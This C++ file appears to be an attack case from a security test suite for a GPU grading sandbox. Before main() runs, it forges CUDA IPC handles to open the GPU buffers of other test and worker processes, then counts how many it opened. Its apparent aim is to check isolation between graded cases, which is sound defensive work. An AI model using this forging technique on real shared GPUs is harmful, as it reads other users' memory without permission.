// attack: before main(), for up to two seconds, open the GPU memory of every case it sees in /proc (test
//         processes and workers) with forged CUDA IPC handles: it exports a buffer of its own to learn
//         the handle's layout, then writes each such process's pid into it and tries the client and
//         memory numbers around its own. A legacy handle is not tied to its receiver: this opens the
//         driver's own buffers of any CUDA process on the same GPU, and whatever it exported. The
//         tests export nothing (their memory reaches their own worker as a file descriptor), and a GPU
//         runs one student's cases at a time, so all it can open is its own cases' (it only reads).
//         It prints how many buffers it opened, in how many processes.
// exercise: max_reduction
// base: solution
// earns: as the solution
#include <chrono>
#include <cstdint>
namespace {
struct ForgeIpcHandles {
  /// Whether process @p pid belongs to a case: a trusted test process (its command line names a
  /// worker) or a student's worker.
  static bool in_a_case(const std::string& pid) {
    const std::string line = attack::read_file("/proc/" + pid + "/cmdline", 4096);
    const std::string comm = attack::read_file("/proc/" + pid + "/comm", 64);
    return line.find(std::string("--worker\0", 9)) != std::string::npos || comm == "worker\n";
  }

  ForgeIpcHandles() {
    void* own = nullptr;
    cudaIpcMemHandle_t model{};
    if (cudaMalloc(&own, 1 << 21) != cudaSuccess || cudaIpcGetMemHandle(&model, own) != cudaSuccess) {
      std::printf("forged IPC handles: no GPU to forge with\n");
      return;
    }
    // The layout seen on CUDA 12 and 13 drivers: 32-bit words; [2] the exporter's pid, [12] its RM
    // client, [13] the memory object (a step of 2 from one allocation to the next).
    std::uint32_t words[16];
    std::memcpy(words, model.reserved, sizeof words);
    int opened = 0, tries = 0, targets = 0;
    const std::string me = std::to_string(getpid());
    const auto until = std::chrono::steady_clock::now() + std::chrono::seconds(2);
    for (const std::string& pid : attack::numbered("/proc")) {
      if (pid == me || !in_a_case(pid)) continue;
      ++targets;
      for (int client = -32; client <= 32 && std::chrono::steady_clock::now() < until; ++client) {
        for (int object = -64; object <= 64; object += 2) {
          std::uint32_t forged[16];
          std::memcpy(forged, words, sizeof forged);
          forged[2] = static_cast<std::uint32_t>(std::stoul(pid));
          forged[12] = words[12] + static_cast<std::uint32_t>(client);
          forged[13] = words[13] + static_cast<std::uint32_t>(object);
          cudaIpcMemHandle_t handle{};
          std::memcpy(handle.reserved, forged, sizeof forged);
          void* theirs = nullptr;
          ++tries;
          if (cudaIpcOpenMemHandle(&theirs, handle, cudaIpcMemLazyEnablePeerAccess) == cudaSuccess) {
            ++opened;
            cudaIpcCloseMemHandle(theirs);
          } else {
            cudaGetLastError();
          }
        }
      }
    }
    cudaFree(own);
    std::printf("forged IPC handles: opened %d buffers of other cases (%d processes, %d handles tried)\n", opened,
                targets, tries);
    std::fflush(stdout);
  }
} forge_ipc_handles;
}  // namespace
